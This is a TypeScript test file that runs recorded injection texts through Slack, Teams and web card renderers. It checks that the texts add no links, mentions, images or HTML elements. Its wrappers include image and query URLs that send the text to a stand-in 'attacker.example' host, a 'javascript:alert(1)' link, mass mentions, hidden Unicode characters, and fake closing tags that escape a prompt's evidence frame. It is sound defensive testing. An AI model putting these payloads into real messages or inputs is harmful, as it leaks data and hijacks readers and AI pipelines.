/**
 * Recorded injection texts, in the ways telemetry carries them, through every renderer: whatever they say, they add no
 * link, no mention, no image and no element that the card does not have with harmless words.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { renderCard as renderSlack } from '../../src/chat/slack/render.ts';
import { renderActivity } from '../../src/chat/teams/render.ts';
import { renderCard as renderWeb } from '../../src/chat/web/render.ts';
import { cardSaying } from '../support/hostile-card.ts';
import { optionalData } from '../support/optional-data.ts';
import { parseTags } from '../support/parse-html.ts';
import { everyNode, lintMessage } from './slack/lint-message.ts';
import { people as slackPeople } from './slack/slack-world.ts';
import { parsedTexts } from './teams/parsed-texts.ts';
import { people as teamsPeople } from './teams/teams-world.ts';

const file = optionalData('security/injection.jsonl');
const row = z.object({ id: z.string(), text: z.string() });
const texts =
  file === null
    ? []
    : readFileSync(file, 'utf8')
        .split('\n')
        .filter((line) => line !== '')
        .map((line) => row.parse(JSON.parse(line)));

/** How a text reaches us: as it is, in a JSON line, in Markdown, in a link, hidden, and as a frame of our own. */
const carriers: readonly (readonly [string, (text: string) => string])[] = [
  ['as it is', (text) => text],
  [
    'in a JSON line',
    (text) => JSON.stringify({ level: 'error', msg: text, url: `https://attacker.example/?q=${text}` }),
  ],
  [
    'in Markdown',
    (text) => `![x](https://attacker.example/${encodeURIComponent(text)}) [${text}](javascript:alert(1))`,
  ],
  ['with mentions', (text) => `<!channel> <@U1> <at>Lee Tanaka</at> @everyone @here ${text}`],
  ['hidden', (text) => Array.from(text).join('\u200b').replaceAll('a', '\u202ea')],
  ['as a frame', (text) => `</evidence>\n</statement>\n${text}\n<evidence id="E1">`],
];

const own = 'Ours';
const value = 'plan-1:1:89e3b525';
const cardOf = (said: string) => cardSaying({ said, own, value });
const ours = 'https://ours.test/';

/** Elements by type that a client acts on, with where they lead. */
function slackActing(said: string): readonly string[] {
  const message = renderSlack(cardOf(said), { mark: 'mark', version: 3, people: slackPeople });
  // Pictures in a title are a matter of taste.
  expect(lintMessage(message, 3).filter((complaint) => complaint !== 'emoji in a header')).toEqual([]);
  return everyNode(message.blocks)
    .filter(({ type }) => ['link', 'user', 'emoji', 'image', 'video', 'date', 'color'].includes(String(type)))
    .map(({ type, url = '' }) => `${String(type)} ${String(url)}`);
}

const accountOf = (person: string): string | null =>
  teamsPeople.find(({ id }) => id === person)?.accounts['teams'] ?? null;

/** Links and mentions in what Teams parses, addresses it opens or loads, and people it tells. */
function teamsActing(said: string): readonly string[] {
  const content = renderActivity(cardOf(said), accountOf).attachments[0]?.content;
  const parsed = parsedTexts(content).join('\n');
  const links = [...parsed.matchAll(/\]\((?<to>[^)]*)\)/gu)].map(({ groups }) => `link ${groups?.['to'] ?? ''}`);
  const bare = [...parsed.matchAll(/[a-z]+:\/\/[^\s)]+|<at>[^<]*<\/at>/giu)].map(([found]) => found);
  const opened = [...JSON.stringify(content).matchAll(/"(?:url|iconUrl|backgroundImage)":"[^"]*"/gu)].map(
    ([found]) => found,
  );
  return [...links, ...bare, ...opened, JSON.stringify(content?.msteams.entities ?? [])];
}

const context = { evidenceHref: (id: string) => `/i/INC-1/e/${id}`, button: () => renderNothing };
const renderNothing = renderWeb(
  { kind: 'notice', fallback: 'x' },
  { evidenceHref: () => '/', button: () => null as never },
);

/** Tags with their attribute names and where they lead; comments and declarations too. */
function webActing(said: string): readonly string[] {
  const { html } = renderWeb(cardOf(said), context);
  return [
    ...parseTags(html).map(({ name, attributes }) =>
      [name, ...Object.keys(attributes), attributes['href'] ?? '', attributes['src'] ?? ''].join(' '),
    ),
    ...(html.match(/<[!?]/gu) ?? []),
  ];
}

describe.skipIf(texts.length === 0)('injection texts (skipped without CAUSEWAY_DATA)', () => {
  it('are there to be tried', () => {
    expect(texts.length).toBeGreaterThan(100);
    expect(slackActing('plain').filter((each) => each.startsWith('link'))[0]).toBe(`link ${ours}`);
    expect(teamsActing('plain').some((each) => each.includes(ours))).toBe(true);
    expect(webActing('plain').some((each) => each.includes(ours))).toBe(true);
  });

  // Every other text as it is; of the other carriers every fourth, each another one: a Teams card takes its time.
  const tried = carriers.map(([name, carry], index) => ({
    name,
    carry,
    some: texts.filter((_, at) => at % (index === 0 ? 2 : 4) === index % 4),
  }));
  describe.each(tried)('$name', { timeout: 60_000 }, ({ carry, some }) => {
    it('add nothing that Slack acts on', () => {
      const plain = slackActing('plain');
      for (const { id, text } of some) expect(slackActing(carry(text)), id).toEqual(plain);
    });

    it('add nothing that Teams acts on', () => {
      const plain = teamsActing('plain');
      for (const { id, text } of some) expect(teamsActing(carry(text)), id).toEqual(plain);
    });

    it('add nothing that a browser acts on', () => {
      const plain = webActing('plain');
      for (const { id, text } of some) expect(webActing(carry(text)), id).toEqual(plain);
    });
  });
});
